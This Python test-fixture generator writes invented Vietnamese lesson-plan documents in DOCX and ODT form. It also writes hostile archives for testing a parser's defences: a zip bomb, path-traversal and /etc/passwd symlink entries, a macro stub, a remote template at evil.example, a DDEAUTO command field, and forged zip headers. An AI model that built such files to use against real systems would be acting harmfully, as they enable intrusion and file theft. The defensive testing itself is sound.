#!/usr/bin/env python3
"""Writes the office files of this folder anew. Everything in them is invented.

Run it after a change: python3 Tests/Fixtures/office/make.py. The bytes are the same on every run.
"""
import os
import struct
import zipfile
import zlib

HERE = os.path.dirname(os.path.abspath(__file__))
NAMES = " ".join(f'xmlns:{prefix}="{name}"' for prefix, name in {
    "w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main",
    "r": "http://schemas.openxmlformats.org/officeDocument/2006/relationships",
    "m": "http://schemas.openxmlformats.org/officeDocument/2006/math",
    "mc": "http://schemas.openxmlformats.org/markup-compatibility/2006",
    "wp": "http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing",
    "a": "http://schemas.openxmlformats.org/drawingml/2006/main",
    "pic": "http://schemas.openxmlformats.org/drawingml/2006/picture",
    "wps": "http://schemas.microsoft.com/office/word/2010/wordprocessingShape",
    "v": "urn:schemas-microsoft-com:vml",
    "o": "urn:schemas-microsoft-com:office:office",
}.items())
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def run(text, *looks):
    """`looks`: b, i, u, strike, sup, sub."""
    marks = {"b": "<w:b/>", "i": "<w:i/>", "u": '<w:u w:val="single"/>', "strike": "<w:strike/>",
             "sup": '<w:vertAlign w:val="superscript"/>', "sub": '<w:vertAlign w:val="subscript"/>'}
    properties = "".join(marks[look] for look in looks)
    body = "<w:br/>".join(f'<w:t xml:space="preserve">{escape(part)}</w:t>' for part in text.split("\n"))
    return f"<w:r><w:rPr>{properties}</w:rPr>{body}</w:r>"


def p(*parts, style=None, number=None):
    """A paragraph; a text part is a plain run. `number` is (list, level)."""
    inner = ""
    if style:
        inner += f'<w:pStyle w:val="{style}"/>'
    if number:
        inner += f'<w:numPr><w:ilvl w:val="{number[1]}"/><w:numId w:val="{number[0]}"/></w:numPr>'
    return f"<w:p><w:pPr>{inner}</w:pPr>" + "".join(x if x.startswith("<") else run(x) for x in parts) + "</w:p>"


def bold(text):
    return p(run(text, "b"))


def cell(*paragraphs, span=1, merge=None):
    properties = f'<w:gridSpan w:val="{span}"/>' if span > 1 else ""
    properties += {None: "", "start": '<w:vMerge w:val="restart"/>', "on": "<w:vMerge/>"}[merge]
    blocks = [x if x.startswith("<") else p(x) for x in paragraphs] or [p("")]
    if blocks[-1].startswith("<w:tbl>"):
        blocks.append(p(""))
    return f"<w:tc><w:tcPr>{properties}</w:tcPr>" + "".join(blocks) + "</w:tc>"


def table(columns, *rows, header=False):
    grid = f'<w:gridCol w:w="{9000 // columns}"/>' * columns
    look = f'<w:tblPr><w:tblLook w:firstRow="{1 if header else 0}"/></w:tblPr>'
    return f"<w:tbl>{look}<w:tblGrid>{grid}</w:tblGrid>" + "".join(f"<w:tr>{''.join(row)}</w:tr>" for row in rows) + "</w:tbl>"


def picture(relation, words):
    return (
        '<w:r><w:drawing><wp:inline><wp:extent cx="300000" cy="300000"/>'
        f'<wp:docPr id="1" name="Picture 1" descr="{escape(words)}"/>'
        '<a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic>'
        f'<pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:embed="{relation}"/>'
        "</pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>")


def link(relation, text):
    return f'<w:hyperlink r:id="{relation}">{run(text)}</w:hyperlink>'


def png(red, green, blue):
    """A picture of 4 by 4 points of one colour."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = (b"\0" + bytes([red, green, blue]) * 4) * 4
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


NUMBERING = (
    DECLARATION + f"<w:numbering {NAMES}>"
    + "".join(
        f'<w:abstractNum w:abstractNumId="{index}">'
        + "".join(f'<w:lvl w:ilvl="{level}"><w:start w:val="1"/><w:numFmt w:val="{kind}"/><w:lvlText w:val="{text}"/></w:lvl>'
                  for level, text in enumerate(texts))
        + "</w:abstractNum>"
        for index, (kind, texts) in enumerate([
            ("bullet", ["•", "◦"]), ("decimal", ["%1.", "%2."]), ("lowerLetter", ["%1)"]), ("upperRoman", ["%1."])]))
    + "".join(f'<w:num w:numId="{index + 1}"><w:abstractNumId w:val="{index}"/></w:num>' for index in range(4))
    + "</w:numbering>")
STYLES = (
    DECLARATION + f"<w:styles {NAMES}>"
    + "".join(f'<w:style w:type="paragraph" w:styleId="{id}"><w:name w:val="{name}"/></w:style>'
              for id, name in [("Heading1", "heading 1"), ("Heading2", "heading 2"), ("Heading3", "heading 3"), ("Title", "Title")])
    + "</w:styles>")
FOOTNOTES = (
    DECLARATION + f'<w:footnotes {NAMES}><w:footnote w:id="2">'
    + p("Số liệu do lớp tự đo.") + "</w:footnote></w:footnotes>")


def relations(*entries):
    return (
        DECLARATION + '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        + "".join(f'<Relationship Id="{id}" Type="{kind}" Target="{target}"' + (' TargetMode="External"' if external else "") + "/>"
                  for id, kind, target, external in entries)
        + "</Relationships>")


def docx_parts(body, media=(), links=(), document=None, kind="document.main", more=()):
    parts = {
        "[Content_Types].xml": DECLARATION
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/><Default Extension="png" ContentType="image/png"/>'
        f'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.{kind}+xml"/></Types>',
        "_rels/.rels": relations(("r1", OFFICE + "/officeDocument", "word/document.xml", False)),
        "word/document.xml": document or DECLARATION + f"<w:document {NAMES}><w:body>{body}</w:body></w:document>",
        "word/numbering.xml": NUMBERING,
        "word/styles.xml": STYLES,
        "word/footnotes.xml": FOOTNOTES,
        "word/_rels/document.xml.rels": relations(
            ("n", OFFICE + "/numbering", "numbering.xml", False), ("s", OFFICE + "/styles", "styles.xml", False),
            ("f", OFFICE + "/footnotes", "footnotes.xml", False),
            *[(id, OFFICE + "/image", "media/" + name, False) for id, name, _ in media],
            *[(id, OFFICE + "/hyperlink", target, True) for id, target in links],
            *more),
    }
    parts.update({"word/media/" + name: data for _, name, data in media})
    return parts


def write(name, parts, links=()):
    """`links`: names of parts that are symbolic links."""
    with zipfile.ZipFile(os.path.join(HERE, name), "w") as file:
        for path, data in parts.items() if isinstance(parts, dict) else parts:
            entry = zipfile.ZipInfo(path, (2024, 9, 5, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_STORED if path == "mimetype" else zipfile.ZIP_DEFLATED
            entry.create_system = 3
            entry.external_attr = (0o120777 if path in links else 0o100644) << 16
            file.writestr(entry, data)


def save(name, data):
    with open(os.path.join(HERE, name), "wb") as file:
        file.write(data)


def load(name):
    with open(os.path.join(HERE, name), "rb") as file:
        return file.read()


def lesson():
    """A plan as most teachers type it: no styles, bold lines, one table for each activity."""
    head = ("Hoạt động của giáo viên", "Hoạt động của học sinh")
    bullet = lambda text, level=0: p(text, number=(1, level))
    number = lambda text: p(text, number=(2, 0))
    return "".join([
        table(2, [cell(bold("TRƯỜNG TIỂU HỌC SUỐI MÂY")), cell(bold("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"))],
              [cell("Tổ: 4-5"), cell(bold("Độc lập - Tự do - Hạnh phúc"))]),
        bold("KẾ HOẠCH BÀI DẠY"),
        p(run("Môn học: ", "b"), "Toán – ", run("Lớp: ", "b"), "4A"),
        p(run("Tên bài học: ", "b"), run("Bài 16: Hàng chục nghìn và vườn cam", "b")),
        p("Số tiết: 1"),
        p("Thời gian thực hiện: Thứ ba ngày 15 tháng 10 năm 2024"),
        p("Tuần: 6"),
        p(""),
        bold("I. YÊU CẦU CẦN ĐẠT"),
        p("- Đọc, viết được số cam của ba vườn; nêu được chữ số hàng ", run("chục nghìn", "b"), "."),
        p("- Năng lực:"),
        p("+ Tư duy và lập luận toán học."),
        p("+ Giao tiếp toán học."),
        p("- Phẩm chất: chăm chỉ."),
        bold("II. ĐỒ DÙNG DẠY HỌC"),
        p("1. Giáo viên: 12 thẻ số, sơ đồ vườn (1 tờ A2)."),
        p("2. Học sinh: bảng con, bút."),
        bold("III. CÁC HOẠT ĐỘNG DẠY HỌC CHỦ YẾU"),
        p(run("1. Mở đầu ", "b"), run("(5’)", "b", "i")),
        table(2, [cell(bold(head[0])), cell(bold(head[1]))],
              [cell("Treo sơ đồ ba vườn cam. Hỏi: \"Vườn nào nhiều cam nhất?\"", p(picture("i1", "Sơ đồ ba vườn cam"))),
               cell(bullet("Quan sát sơ đồ."), bullet("Đoán:"), bullet("vườn Bắc;", 1), bullet("vườn Nam.", 1))],
              [cell(number("Phát thẻ số."), number("Nêu luật chơi.")), cell("Nhận thẻ | xếp thẻ.", "")]),
        p(run("2. Hoạt động 1: ", "b"), run("Khám phá:", "b")),
        table(2, [cell(bold(head[0])), cell(bold(head[1]))],
              [cell("Viết bảng: 43 250 = 40 000 + 3 000 + 200 + 50."), cell("Đọc số, nêu giá trị chữ số 4.")]),
        p(run("3. Luyện tập – Thực hành (18 phút)", "b")),
        p(run("Bài 1:", "b"), "Tính nhẩm *nhanh* theo mẫu 5_000 < 6_000"),
        table(2, [cell(bold(head[0])), cell(bold(head[1]))],
              [cell(p("Mảnh vườn ", run("hình vuông", "i"), " cạnh 120 m.")), cell("Trả lời.")]),
        p("Diện tích 25 m", run("2", "sup"), ", khí CO", run("2", "sub"), ", góc 90", run("o", "sup"), ".",
          link("l1", "Trang của lớp"), " và ", picture("i2", ""), "."),
        p(run("4. VẬN DỤNG, TRẢI NGHIỆM:", "b")),
        p("1. Về nhà đếm cam.\n# Ghi vào sổ"),
        p(run("IV. Điều chỉnh sau bài dạy (nếu có):", "b")),
        p("…………………………………………………………"),
        p("Cần thêm thẻ số cho nhóm 3."),
    ])


def in_table():
    """A whole plan inside one table of three columns."""
    return "".join([
        p("Tuần 7", style="Heading2"),
        p("BÀI 20", style="Heading1"), p("ĐO CHIỀU CAO CÂY ĐẬU", style="Heading1"),
        p("Lớp 4B"),
        table(3, [cell(bold("I. Yêu cầu cần đạt"), "Đo được chiều cao cây đậu.", span=3)],
              [cell(bold("II. Đồ dùng dạy học:"), "Thước dây.", span=3)],
              [cell(bold("III. Các hoạt động dạy học chủ yếu"), span=3)],
              [cell(bold("Nội dung")), cell(bold("Hoạt động của GV")), cell(bold("Hoạt động của HS"))],
              [cell(bold("1. Khởi động"), p("(5 phút)")), cell("Hỏi cả lớp."), cell("Trả lời.")],
              [cell(bold("2. Luyện tập (20 phút)"), merge="start"), cell("Hướng dẫn đo."), cell("Đo theo nhóm.")],
              [cell(merge="on"), cell("Chữa bài."), cell("Ghi số đo.")]),
        bold("IV. Điều chỉnh sau bài dạy"),
    ])


def numbered():
    """Headings that Word numbers by itself, and run-in headings."""
    roman = lambda text: p(run(text, "b"), number=(4, 0))
    return "".join([
        p("Hạt giống ngủ đông", style="Title"),
        p("Môn: Khoa học; Lớp: 4 A; Tuần: 08; Số tiết: 02 tiết"),
        p("Ngày dạy: 29/10/2024. Giáo viên: Nguyễn Vân Anh"),
        roman("Yêu cầu cần đạt"), p("Nêu được hạt cần gì.", number=(3, 0)), p("Ươm được hạt.", number=(3, 0)),
        roman("Đồ dùng dạy học"), p(run("Thước:", "b"), " 20 chiếc"),
        roman("Các hoạt động dạy học chủ yếu"),
        p(run("3.1. Mở đầu:", "b"), " Hát và vận động."),
        p("Ươm hạt", style="Heading3"), p("Kể chuyện hạt.", number=(2, 0)), p("Đoán tên hạt.", number=(2, 0)),
        p(run("Điều chỉnh sau bài dạy", "b"), ": Lớp cần thêm đất."),
    ])


def losses():
    """What Markdown cannot carry."""
    fraction = ("<m:oMath><m:r><m:t>3</m:t></m:r><m:f><m:num><m:r><m:t>1</m:t></m:r></m:num><m:den><m:r><m:t>2</m:t></m:r></m:den></m:f>"
                "<m:r><m:t>×</m:t></m:r><m:sSup><m:e><m:r><m:t>x</m:t></m:r></m:e><m:sup><m:r><m:t>2</m:t></m:r></m:sup></m:sSup></m:oMath>")
    box = text_box("Chữ trong khung")
    return "".join([
        bold("Bài 21. Những thứ khó chở"),
        bold("I. Yêu cầu cần đạt"),
        table(3, [cell("Nhóm"), cell("Số đo", span=2)],
              [cell("Một", merge="start"), cell("12"), cell("13")],
              [cell(merge="on"), cell("14"), cell(table(2, [cell("a"), cell("b")], [cell("c"), cell("d")]))], header=True),
        p("Tính: ", fraction, "."),
        p("Cao 14 cm", '<w:r><w:footnoteReference w:id="2"/></w:r>', " mỗi cây, từ ", run("sai", "strike"), " và từ ", run("láy", "u"), "."),
        p("Hình: ", picture("i1", ""), " hết."),
        p(box),
        p('<w:r><w:object><o:OLEObject Type="Embed" ProgID="Equation.DSMT4"/></w:object></w:r>'),
        p('<w:r><w:rPr><w:rFonts w:ascii=".VnTime"/></w:rPr><w:t>B\uf0e0C</w:t></w:r>'),
    ])


def text_box(words):
    inner = "<w:txbxContent>" + p(words) + "</w:txbxContent>"
    return (f'<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:wsp><wps:txbx>{inner}</wps:txbx></wps:wsp>'
            f"</w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox>{inner}</v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>")


def week_lesson(opening, aims, tools, start, practice, use="", note="", show=None):
    """One lesson of a week's file; `practice` None leaves its section out."""
    def acts(teacher, pupils):
        return table(2, [cell(bold("Hoạt động của giáo viên")), cell(bold("Hoạt động của học sinh"))],
                     [cell(teacher), cell(pupils)])
    return "".join([
        *opening,
        bold("I. YÊU CẦU CẦN ĐẠT"), *[p("- " + aim) for aim in aims],
        bold("II. ĐỒ DÙNG DẠY HỌC"), p(tools),
        bold("III. CÁC HOẠT ĐỘNG DẠY HỌC CHỦ YẾU"),
        bold("1. Mở đầu (5’)"), acts(*start),
        *([bold("2. Luyện tập, thực hành (20’)"), acts(*practice)] if practice else []),
        *([p(show)] if show else []),
        *([bold("3. Vận dụng (5’)"), p(use)] if use else []),
        bold("IV. ĐIỀU CHỈNH SAU BÀI DẠY"), p(note or "……………………………………………………"),
    ])


def week(gap=False, twins=False):
    """Five lessons of two subjects on three days in one file, each in a form that teachers use.

    `gap`: the third has no practice, and a text box stands below the last. `twins`: the fourth has the title of the second."""
    reading = "Tên bài: Bài 13: Tiếng suối đầu bản"
    return "".join([
        table(2, [cell(bold("TRƯỜNG TIỂU HỌC SUỐI MÂY")), cell(bold("KẾ HOẠCH BÀI DẠY TUẦN 7"))],
              [cell("Tổ: 4-5"), cell("Lớp: 4A – Giáo viên: Nguyễn Vân Anh")]),
        bold("Tuần 7: Từ ngày 21/10/2024 đến ngày 25/10/2024"),
        week_lesson(
            [bold("Thứ hai ngày 21 tháng 10 năm 2024"), bold("KẾ HOẠCH BÀI DẠY"), p("Môn: Toán"),
             p("Tên bài: Bài 17: Ki-lô-gam rau của vườn trường"), p("Số tiết: 1")],
            ["Đổi được ki-lô-gam ra gam và ngược lại.", "Chăm chỉ, cẩn thận khi cân."], "Cân đồng hồ 5 kg, 6 túi rau.",
            ("Cho cả lớp đoán túi rau nào nặng nhất.", "Đoán, nêu lí do."),
            ("Bài 1: Đổi 3 kg ra gam. Bài 2: Mục tiêu của nhóm là cân đúng ba túi.", "Làm bảng con, cân theo nhóm."),
            use="Về nhà cân một quả bưởi rồi ghi lại."),
        week_lesson(
            [bold("KẾ HOẠCH BÀI DẠY"), p("Môn: Tiếng Việt"), p(reading), p("Số tiết: 2")],
            ["Đọc đúng, diễn cảm bài thơ.", "Hiểu tình cảm của bạn nhỏ với con suối."], "Tranh con suối, bảng phụ.",
            ("Mở tiếng suối chảy. Hỏi: “Em nghe thấy gì?”", "Nghe và trả lời."),
            ("Gọi đọc nối tiếp từng khổ.", "Đọc nối tiếp, nhận xét bạn."),
            note="Khổ 3 nhiều em đọc ngắt nhịp sai."),
        week_lesson(
            [bold("Thứ ba ngày 22 tháng 10 năm 2024"), bold("GIÁO ÁN"), p("Môn học: Toán; Số tiết: 1"),
             bold("BÀI 18"), bold("YẾN, TẠ VÀ KHO THÓC")],
            ["Đổi được yến, tạ ra ki-lô-gam."], "Thẻ số.",
            ("Kể chuyện kho thóc.", "Nghe."),
            None if gap else ("Bài 1: Điền số vào chỗ chấm.", "Làm vở, đổi vở kiểm tra.")),
        week_lesson(
            [bold("KẾ HOẠCH BÀI DẠY MÔN TIẾNG VIỆT LỚP 4A"),
             p(reading if twins else "Tên bài: Bài 14: Viết đoạn văn tả con suối"), p("(Sách giáo khoa trang 52)"), p("Số tiết: 1")],
            ["Viết được đoạn văn 5 đến 7 câu."], "Tranh con suối.",
            ("Treo tranh.", "Quan sát."), ("Cho viết vào vở.", "Viết, đọc cho bạn nghe."), 
            show=picture("i1", "Con suối đầu bản") + run("Con suối", "u")),
        week_lesson(
            [bold("Thứ tư ngày 23 tháng 10 năm 2024"), p("Môn: Toán – Số tiết: 1"), bold("Bài 19. Tấn và chuyến xe")],
            ["Đổi được tấn ra tạ, ki-lô-gam."], "Bảng phụ.",
            ("Hỏi: “Xe chở được mấy tấn?”", "Đoán."), ("Bài 1: Tính.", "Làm vở."), use="Đọc biển ghi tải trọng trên đường."),
        *([p(text_box("Mang cân sang lớp 4A"))] if gap else []),
        bold("KÍ DUYỆT CỦA TỔ TRƯỞNG"),
    ])


def mention():
    """One lesson that says the words of its own sections again, and is called by the names of other headings."""
    return "".join([
        bold("KẾ HOẠCH BÀI DẠY"), p("Môn: Toán; Lớp: 4A; Tuần: 7; Số tiết: 1"), p("Ngày dạy: 24/10/2024"),
        p("Tên bài: Bài 20: Ôn tập đo khối lượng"),
        bold("I. MỤC TIÊU"), p("- Đổi được các đơn vị đo khối lượng."),
        bold("II. ĐỒ DÙNG DẠY HỌC"), p("Phiếu bài tập."),
        bold("III. CÁC HOẠT ĐỘNG DẠY HỌC CHỦ YẾU"),
        bold("1. Mở đầu (5’)"), p("Nhắc lại yêu cầu cần đạt của tiết trước: đổi yến ra ki-lô-gam. Giáo án tuần 6 đã có."),
        bold("2. Luyện tập, thực hành (25’)"),
        bold("Bài 2: Tính nhẩm"), p("mục tiêu: nhẩm nhanh, đúng"), p("Đồ dùng dạy học là phiếu số 1."),
        p("Môn Toán, lớp 4A, tuần 7: mỗi nhóm một phiếu."),
        p("Bài 3. Mục tiêu của em tuần này là gì?"),
        bold("IV. ĐIỀU CHỈNH SAU BÀI DẠY"),
    ])


def odt():
    names = " ".join(f'xmlns:{k}="urn:oasis:names:tc:opendocument:xmlns:{v}:1.0"' for k, v in {
        "office": "office", "text": "text", "table": "table", "style": "style", "fo": "xsl-fo-compatible", "draw": "drawing", "svg": "svg-compatible"}.items())
    names += ' xmlns:xlink="http://www.w3.org/1999/xlink"'
    line = lambda text, style="": f'<text:p{style}>{escape(text)}</text:p>'
    item = lambda text: f"<table:table-cell>{line(text)}</table:table-cell>"
    strong = ' text:style-name="B"'
    content = (
        DECLARATION + f"<office:document-content {names}><office:automatic-styles>"
        '<style:style style:name="B" style:family="text"><style:text-properties fo:font-weight="bold"/></style:style>'
        "</office:automatic-styles><office:body><office:text>"
        + f'<text:p><text:span{strong}>Bài 9. Tiếng trống trường</text:span></text:p>' + line("Lớp: 3A1") + line("Tuần: 9")
        + f'<text:p><text:span{strong}>1. Yêu cầu cần đạt</text:span></text:p>' + line("Gõ đúng hai nhịp.")
        + f'<text:p><text:span{strong}>3.1. Mở đầu (4 phút)</text:span></text:p>'
        + '<table:table><table:table-column table:number-columns-repeated="2"/><table:table-row>'
        + item("Hoạt động của giáo viên") + item("Hoạt động của học sinh") + "</table:table-row><table:table-row>"
        + item("Gõ mẫu.") + item("Gõ theo.") + "</table:table-row></table:table>"
        + '<text:p>Trống: <draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="Pictures/t.png"/></draw:frame>'
        '<draw:frame svg:width="1cm" svg:height="1cm"><draw:image xlink:href="data:image/png;base64,aGk=;.lua+%252f%252e%252e%252fx"/></draw:frame></text:p>'
        + "</office:text></office:body></office:document-content>")
    return {
        "mimetype": "application/vnd.oasis.opendocument.text", "content.xml": content,
        "styles.xml": DECLARATION + f"<office:document-styles {names}><office:styles/></office:document-styles>",
        "META-INF/manifest.xml": DECLARATION + '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        "Pictures/t.png": png(200, 120, 40),
    }


def main():
    orange, green = png(250, 150, 30), png(30, 150, 60)
    write("lesson.docx", docx_parts(
        lesson(), media=[("i1", "image1.png", orange), ("i2", "image2.png", green)], links=[("l1", "https://suoimay.example/lop/4a (1)")]))
    write("in-table.docx", docx_parts(in_table()))
    write("numbered.docx", docx_parts(numbered()))
    write("losses.docx", docx_parts(losses(), media=[("i1", "image1.emf", b"\x01\0\0\0 no picture for a browser")]))
    write("text.odt", odt())
    stream = [("i1", "image1.png", green)]
    write("tuan-07.docx", docx_parts(week(), media=stream))
    write("week-gap.docx", docx_parts(week(gap=True), media=stream))
    write("week-twins.docx", docx_parts(week(twins=True), media=stream))
    write("week-framed.docx", docx_parts(table(1, [cell(week())]), media=stream))
    write("mention.docx", docx_parts(mention()))

    # Pandoc loses the cells of a table without widths, and says nothing.
    lost = table(2, [cell("Một ô rất dài để thấy chữ bị mất"), cell("Một ô nữa cũng dài")]).replace(' w:w="4500"', "")
    write("lost-table.docx", docx_parts(bold("Bài 2. Bảng không có bề rộng") + lost))

    small = docx_parts(bold("Bài 1. Thử"))
    write("bomb.docx", {**small, "word/media/zero.bin": b"\0" * (60 * 1024 * 1024)})
    write("macro.docx", {**small, "word/vbaProject.bin": b"Sub AutoOpen"})
    write("macro-type.docx", docx_parts("", kind="document.macroEnabled.main"))
    write("dotdot.docx", {**small, "word/../../evil.txt": "x"})
    write("absolute.docx", {**small, "/etc/evil": "x"})
    write("backslash.docx", {**small, "..\\evil.txt": "x"})
    write("symlink.docx", {**small, "word/media/link": "/etc/passwd"}, links=["word/media/link"])
    write("twice.docx", list(small.items()) + [("word/Document.xml", "<x/>")])
    write("entity.docx", docx_parts("", document='<!DOCTYPE x [<!ENTITY a "aaaa">]><w:document/>'))
    write("template.docx", docx_parts(bold("Thử"), more=[("t", OFFICE + "/attachedTemplate", "http://evil.example/t.dotm", True)]))
    write("dde.docx", docx_parts(p("<w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r>")))
    write("plain.docx", {"readme.txt": "x"})
    write("ordinary.docx", docx_parts(bold("Bài 1. Thử"), more=[("t", OFFICE + "/attachedTemplate", "file:///C:\\Users\\gv\\mau.dotx", True)]))

    ordinary = load("lesson.docx")
    save("truncated.docx", ordinary[:len(ordinary) * 2 // 3])
    save("trailing.docx", load("ordinary.docx") + b"MZ and a program")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
    save("encrypted.docx", ole + "EncryptedPackage".encode("utf-16-le") + b"\0" * 480)
    save("old.docx", ole + "WordDocument".encode("utf-16-le") + b"\0" * 488)
    # Declares 10 bytes where there are more; the local header and the central directory agree.
    lying = bytearray(load("ordinary.docx"))
    at = lying.index(b"PK\x01\x02")
    while lying[at + 46:at + 46 + 17] != b"word/document.xml":
        at = lying.index(b"PK\x01\x02", at + 4)
    lying[at + 24:at + 28] = struct.pack("<I", 10)
    save("lying.docx", bytes(lying))
    # Another name in the local header than in the central directory.
    two = bytearray(load("ordinary.docx"))
    at = two.index(b"word/styles.xml")
    two[at:at + 15] = b"word/stylex.xml"
    save("two-names.docx", bytes(two))
    locked = bytearray(load("ordinary.docx"))
    at = locked.index(b"PK\x01\x02")
    locked[at + 8] |= 1
    save("locked.docx", bytes(locked))


main()
